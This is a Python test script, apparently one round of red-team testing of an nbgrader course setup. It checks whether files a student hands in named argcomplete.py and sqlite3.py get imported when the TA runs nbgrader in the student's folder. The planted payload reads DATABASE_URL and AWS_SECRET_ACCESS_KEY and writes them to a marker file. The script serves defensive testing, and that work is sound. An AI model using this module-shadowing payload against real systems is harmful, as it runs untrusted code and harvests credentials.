"""a02: round 38's fix refuses hand-ins holding files "tools run in its folder load as code" (nbgrader_config.py,
Jupyter/IPython config, .git, sitecustomize...), and collect leaves them out. But nbgrader puts the folder it runs in
at the head of sys.path (NbGrader.init_syspath) and imports modules after that: `argcomplete` for every subcommand,
`sqlite3` for `db`/`export`, `IPython`/`ipykernel`/`psutil`/`codeop` for validate. mallory hands in `argcomplete.py`
and `sqlite3.py` beside her notebook. Does make grade refuse? does collect leave them out? Then the TA runs
`nbgrader list` / `nbgrader db student list` in her folder (README: "run no tool in a student's folder")."""
from lib import *
A = "ps1_memory"
add_accounts()
d = make_course("a02")
try:
    X, inbound = make_exchange("a02")
    chown(d); os.chmod(d, 0o700)
    honest_inbound(inbound, A)
    payload = ("import os\nopen('/tmp/attack39-user-a02-pwned.txt','a').write(f\"{__name__} ran as uid {os.getuid()} in {os.getcwd()}: \" "
               "+ os.environ.get('DATABASE_URL','-') + ' ' + os.environ.get('AWS_SECRET_ACCESS_KEY','-') + '\\n')\n")
    tmp = "/tmp/attack39-user-a02-m.ipynb"; nbformat.write(honest(A), tmp); os.chmod(tmp, 0o644)
    open("/tmp/attack39-user-a02-p.py", "w").write(payload); os.chmod("/tmp/attack39-user-a02-p.py", 0o644)
    as_student(2392, f"""
import os, shutil
p = '{inbound}/mallory39u+{A}+2026-11-29 11:00:00.000000 UTC+r'; os.mkdir(p); os.chmod(p, 0o755)
shutil.copy('{tmp}', p + '/{A}.ipynb')
for m in ('argcomplete.py', 'sqlite3.py'): shutil.copy('/tmp/attack39-user-a02-p.py', p + '/' + m)
""")
    if os.path.exists("/tmp/attack39-user-a02-pwned.txt"): os.unlink("/tmp/attack39-user-a02-pwned.txt")
    collect(d, X, A)
    os.system(f"ls -la {d}/submitted/mallory39u/{A}/")
    grade(d, A)
    scores(d)
    print([(o["student"], o["status"], o["reason"][:200]) for o in json.load(open(f"{d}/grading_report.json"))])
    print("marker after collect+grade:", os.path.exists("/tmp/attack39-user-a02-pwned.txt"))
    for cmd in (["list"], ["db", "student", "list"]):
        r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/nbgrader", *cmd],
                           cwd=f"{d}/submitted/mallory39u/{A}", env=dict(ENV, HOME="/tmp"), capture_output=True, text=True, timeout=120)
        print("TA ran nbgrader", *cmd, "in her folder: rc", r.returncode)
    print("marker:", open("/tmp/attack39-user-a02-pwned.txt").read() if os.path.exists("/tmp/attack39-user-a02-pwned.txt") else None)
finally:
    shutil.rmtree(d, ignore_errors=True); shutil.rmtree("/tmp/attack39-user-a02-exchange", ignore_errors=True)
    for f in ("/tmp/attack39-user-a02-m.ipynb", "/tmp/attack39-user-a02-p.py"):
        if os.path.exists(f): os.unlink(f)
    del_accounts()
